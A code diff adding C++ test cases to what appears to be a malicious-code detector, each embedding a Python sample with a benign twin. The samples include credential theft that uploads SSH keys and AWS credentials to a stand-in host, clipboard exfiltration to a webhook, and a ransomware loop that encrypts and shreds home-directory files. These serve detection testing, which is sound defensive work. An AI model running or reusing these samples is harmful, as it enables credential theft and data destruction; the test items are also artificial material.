@@ -355,5 +355,53 @@ done
                   "CTL_API_TOKEN", "STL_API_TOKEN", "a token named for something else", B);
 }
 
+// Work handed from Python to a shell (the crossing rounds): the child's
+// environment (env=dict(os.environ, DEST=url)), what the child prints
+// (Popen(["bash", "-c", ...]).stdout) and what it reads (run(input=...)).
+TEST(HundredAndNinetySecondRoundClasses, WorkHandedToAChildShell) {
+  check_with_twin({"credentials bundled by Python, uploaded by a shell given the paths in its environment", B, R"py(
+import glob, json, os, subprocess, tempfile
+
+items = {}
+for pattern in ("~/.ssh/id_*", "~/.aws/credentials"):
+    for path in glob.glob(os.path.expanduser(pattern)):
+        with open(path) as fh:
+            items[path] = fh.read()
+fd, bundle = tempfile.mkstemp(suffix=".json")
+with os.fdopen(fd, "w") as fh:
+    json.dump(items, fh)
+cmd = 'curl -s --data-binary @"$BUNDLE" "$DEST"'
+subprocess.run(["sh", "-c", cmd], env=dict(os.environ, BUNDLE=bundle, DEST="https://sync.example.com/api/v1/backup"))
+)py", "EXFILTRATION"},
+                  "(\"~/.ssh/id_*\", \"~/.aws/credentials\")", "(\"reports/*.csv\", \"notes/*.txt\")",
+                  "the project's reports", M);
+  check_with_twin({"the clipboard printed by a child shell, posted by Python", B, R"py(
+import subprocess, urllib.request
+proc = subprocess.Popen(["bash", "-c", "xclip -selection clipboard -o"], stdout=subprocess.PIPE, text=True)
+for line in proc.stdout:
+    urllib.request.urlopen("https://hooks.example.com/intake", data=line.encode())
+)py", "EXFILTRATION"},
+                  "xclip -selection clipboard -o", "cat notes/today.txt", "a notes file printed instead", M);
+  check_with_twin({"walked files fed to a shell loop that encrypts and shreds them", B, R"py(
+import os, subprocess
+files = []
+for d, _, names in os.walk(os.path.expanduser("~")):
+    for n in names:
+        files.append(os.path.join(d, n))
+SCRIPT = 'while IFS= read -r f; do openssl enc -aes-256-cbc -pass env:K -in "$f" -out "$f.locked" && shred -u "$f"; done'
+subprocess.run(["bash", "-c", SCRIPT], input="\n".join(files), text=True, env=dict(os.environ, K="x"))
+)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  " && shred -u \"$f\"", "", "encrypted copies beside the originals", M);
+  // a program named without a slash is found in PATH, not among files extracted from a download
+  check({"bash run after a download was unpacked into the working directory", M, R"py(
+import os, subprocess, tarfile, requests
+os.chdir("/tmp/prices")
+with open("prices.tgz", "wb") as fh:
+    fh.write(requests.get("https://prices.example.org/weekly.tgz", timeout=30).content)
+tarfile.open("prices.tgz").extractall(".", filter="data")
+subprocess.run(["bash", "-c", "wc -l sheets/*.csv"])
+)py"});
+}
+
 }  // namespace
 }  // namespace mai::assess::test
